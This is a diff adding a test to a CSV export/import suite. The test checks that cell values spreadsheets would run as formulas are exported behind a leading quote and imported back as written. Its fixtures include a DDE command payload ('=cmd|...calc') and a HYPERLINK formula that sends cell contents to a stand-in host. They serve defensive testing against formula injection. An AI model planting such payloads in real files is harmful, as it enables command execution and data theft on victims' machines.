@@ -244,6 +244,36 @@ t.test('quoting: commas, quotes and line breaks in narrative and source survive 
   );
 });
 
+t.test('text a spreadsheet would run as a formula is exported behind a quote, and imports back as it was written', async (t) => {
+  const { c, service, exportCsv, importCsv, I, P, story } = await setup(t);
+  const narratives = ['=HYPERLINK("http://x.example/?"&A1,"see")', '@SUM(1+1)', '+1 family', '-- a dash', "'=already quoted", '\tTabbed', 'plain text'];
+  for (const [i, narrative] of narratives.entries()) {
+    await c.reading(story, P, { value: undefined, narrative, source: i === 0 ? '=cmd|"/c calc"!A1' : 'survey', period: { start: `2026-0${i + 1}-01`, end: `2026-0${i + 1}-28` } });
+  }
+  const exported = await exportCsv(I);
+  t.same(
+    exported.rows.map((r) => r.narrative),
+    ['\'=HYPERLINK("http://x.example/?"&A1,"see")', "'@SUM(1+1)", "'+1 family", "'-- a dash", "''=already quoted", "'\tTabbed", 'plain text'],
+    'a leading quote makes a spreadsheet show each as text',
+  );
+  t.equal(exported.rows[0]!.source, '\'=cmd|"/c calc"!A1', 'the source column too');
+
+  const [header, ...rows] = parse(exported.text, { columns: false }) as string[][];
+  for (const r of rows) r[header!.indexOf('periodStart')] = r[header!.indexOf('periodStart')]!.replace('2026', '2027');
+  for (const r of rows) r[header!.indexOf('periodEnd')] = r[header!.indexOf('periodEnd')]!.replace('2026', '2027');
+  t.equal((await importCsv(story, stringify([header!, ...rows]))).status, 201);
+  const again = await exportCsv(I);
+  t.same(
+    again.rows.filter((r) => r.periodStart!.startsWith('2027')).map((r) => r.narrative),
+    exported.rows.map((r) => r.narrative),
+    'the import took the quote off: the same text recorded, exported the same way',
+  );
+  const recorded = (await service.store.readStream(`indicator-${story}`))
+    .filter((e) => e.type === 'ReadingRecorded' && (e.data as { period: { start: string } }).period.start.startsWith('2027'))
+    .map((e) => (e.data as { narrative: string }).narrative);
+  t.same(recorded, narratives, 'recorded as written');
+});
+
 t.test('a bad row is a 400 naming the row and the column, and nothing is recorded', async (t) => {
   const { importCsv, eventCount, P, byDistrict } = await setup(t);
   const header = [...CORE, 'district', 'value', 'narrative', 'source'];
